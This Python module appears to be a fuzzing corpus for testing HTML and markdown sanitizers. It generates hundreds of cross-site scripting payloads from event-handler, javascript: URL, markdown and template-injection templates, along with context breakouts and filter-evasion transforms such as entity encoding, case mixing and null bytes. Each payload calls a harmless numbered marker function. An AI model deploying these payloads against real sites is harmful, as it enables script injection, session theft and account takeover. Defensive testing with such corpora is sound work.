"""Scripts as somebody would smuggle them in: every way to start one, in every dress, out of every place.

Each payload that ran would call ``xss`` with its own number. The ways are those that the public collections list: the
OWASP XSS filter evasion cheat sheet, the HTML5 security cheat sheet and PortSwigger's list of events.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from itertools import product
from typing import Final

STARTS: Final = (
    "<script>{}</script>",
    "<script src=data:text/javascript,{}></script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><script>{}</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<body onload={}>",
    "<iframe srcdoc='<img src=x onerror=parent.{}>'></iframe>",
    "<iframe src='javascript:parent.{}'></iframe>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<details open ontoggle={}>x</details>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
    "<marquee onstart={}>x</marquee>",
    "<style>@keyframes k{{}}</style><b style='animation:k 1s' onanimationstart={}>x</b>",
    "<p onmouseover={} style=position:fixed;inset:0>x",
    "<a href='javascript:{}'>x</a>",
    "<form action='javascript:{}'><button>x</button></form>",
    "<button popovertarget=p>x</button><b popover id=p onbeforetoggle={}>x</b>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href='javascript:{}'>",
    "<base href='javascript:{}//'>",
    "[x](javascript:{})",
    "[x](<javascript:{}>)",
    '![x](x"onerror="{})',
    "[x]: javascript:{}\n\n[x]",
    "<javascript:{}>",
    "[x](data:text/html,<script>{}</script>)",
    "[x](vbscript:{})",
    "[[x|<img src=x onerror={}>]]",
    "[[javascript:{}]]",
    "`</code><img src=x onerror={}>`",
    '```" onmouseover="{}\nx\n```',
    "| a |\n|---|\n| <img src=x onerror={}> |",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "<!--><img src=x onerror={}>-->",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "<xss contenteditable onbeforeinput={} autofocus tabindex=1>x",
)
"""What runs a script."""

TURNS: Final = 3

PLACES: Final = ("", '">', "'>", "</title>", "</textarea></bdi></a>", "-->", "]]>", '" onmouseover={} x="', "</script>")
"""What would end the place that a text stands in."""


def _mixed(text: str) -> str:
    """Every other letter large, but for the call itself: JavaScript tells them apart."""
    before, call, after = text.partition("xss(")
    return "".join(one.upper() if place % 2 else one for place, one in enumerate(before)) + call + after


def _entities(text: str) -> str:
    return text.replace("javascript:", "&#106;avascript&colon;").replace("onerror=", "onerror&#61;")


def _slashes(text: str) -> str:
    return text.replace(" on", "/on").replace(" src", "/src")


def _broken(text: str) -> str:
    return text.replace("javascript:", "java\tscript:").replace("<", "<\x00", 1)


DRESSES: Final[tuple[Callable[[str], str], ...]] = (str, _mixed, _entities, _slashes, _broken)
"""The same once more, so that a filter that looks for words does not see it."""


def payloads() -> Iterator[str]:
    """Every start out of every place, in three dresses each; every one with its number."""
    for turn in range(TURNS):
        for place, (what, start) in product(range(len(PLACES)), enumerate(STARTS)):
            number = (turn * len(PLACES) + place) * len(STARTS) + what
            call, dress = f"xss({number})", DRESSES[(what + place + turn) % len(DRESSES)]
            yield PLACES[place].replace("{}", call) + dress(start.format(call))
